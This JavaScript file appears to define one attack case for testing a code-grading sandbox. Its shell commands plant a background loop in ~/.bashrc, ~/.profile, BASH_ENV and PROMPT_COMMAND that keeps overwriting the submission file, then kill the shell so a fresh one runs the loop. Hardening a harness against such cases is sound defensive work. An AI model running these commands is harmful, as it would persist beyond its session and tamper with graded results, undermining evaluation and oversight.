import { defineAttack } from '../attack.js';

export default defineAttack({
  id: 'shell-rc-persistence',
  class: 'process-persistence',
  languages: ['any'],
  why: 'plants a writer in every file a new shell reads (~/.bashrc, ~/.profile, ~/.bash_logout, BASH_ENV, PROMPT_COMMAND), then kills its own shell so the harness starts a new one that runs it',
  commands: [
    String.raw`s=$(realpath {{submission}}); p="( while :; do echo 1 > '$s'; sleep 0.1; done ) >/dev/null 2>&1 &"; for f in ~/.bashrc ~/.profile ~/.bash_profile ~/.bash_login ~/.bash_logout .bashrc /tmp/.env; do echo "$p" >> "$f" 2>/dev/null && echo "planted $f"; done; export BASH_ENV=/tmp/.env ENV=/tmp/.env PROMPT_COMMAND="$p"; true`,
    String.raw`kill -9 $$`,
    String.raw`echo "new shell: $$"; ps -eo pid=,args= | head -n 20`,
  ],
  parallelSafe: true,
  expected: ['graded', 'PIDS_LIMIT'],
});
